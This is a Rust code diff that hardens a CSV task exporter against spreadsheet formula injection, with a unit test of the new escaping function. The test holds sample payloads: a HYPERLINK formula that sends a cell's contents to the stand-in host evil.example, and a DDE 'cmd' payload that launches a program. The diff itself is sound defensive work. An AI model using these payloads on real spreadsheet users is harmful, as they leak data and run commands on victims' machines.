@@ -195,13 +195,12 @@ pub fn write_tasks_csv(model: &Model, out: &mut (impl std::io::Write + ?Sized)) 
         for task in model.record(entry).tasks() {
             let f = &task.figures;
             row.clear();
-            for field in [
-                date.as_str(),
-                &document.slug,
-                task.plain_text(),
-                task.workstream.as_ref().map_or("", |c| c.value.as_str()),
-            ] {
+            for field in [date.as_str(), &document.slug] {
                 push_csv_field(&mut row, field);
+                row.push(b',');
+            }
+            for text in [task.plain_text(), task.workstream.as_ref().map_or("", |c| c.value.as_str())] {
+                push_csv_text(&mut row, text);
                 row.push(b',');
             }
             number(&mut row, f.human().get())?;
@@ -222,6 +221,21 @@ pub fn write_tasks_csv(model: &Model, out: &mut (impl std::io::Write + ?Sized)) 
         }
     }
     Ok(())
+}
+
+/// Appends a field of the writer's text (a task, a workstream) so that a spreadsheet shows it as
+/// text: one that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, which Excel,
+/// LibreOffice and Google Sheets would run as a formula (`=HYPERLINK(...)`), is written after a
+/// `'` and quoted, as OWASP advises for CSV files people open in spreadsheets.
+fn push_csv_text(out: &mut Vec<u8>, text: &str) {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        out.push(b'"');
+        out.push(b'\'');
+        out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
+        out.push(b'"');
+    } else {
+        push_csv_field(out, text);
+    }
 }
 
 /// Appends a field, quoted when it holds a comma, a quote or a line break (RFC 4180). The four
@@ -333,6 +347,26 @@ tags = ['a"b', "é", "tab\tx"]
         let mut out = Vec::new();
         push_csv_field(&mut out, field);
         String::from_utf8(out).expect("UTF-8 in, UTF-8 out")
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
+        let text = |field: &str| {
+            let mut out = Vec::new();
+            push_csv_text(&mut out, field);
+            String::from_utf8(out).expect("UTF-8")
+        };
+        assert_eq!(
+            text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
+        );
+        assert_eq!(text("@SUM(1+1)"), "\"'@SUM(1+1)\"");
+        assert_eq!(text("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
+        assert_eq!(text("-2+3"), "\"'-2+3\"");
+        assert_eq!(text("\tx"), "\"'\tx\"");
+        // Anything else is written as any field is.
+        assert_eq!(text("Fix the parser"), "Fix the parser");
+        assert_eq!(text("a = b, c"), "\"a = b, c\"");
     }
 
     #[test]
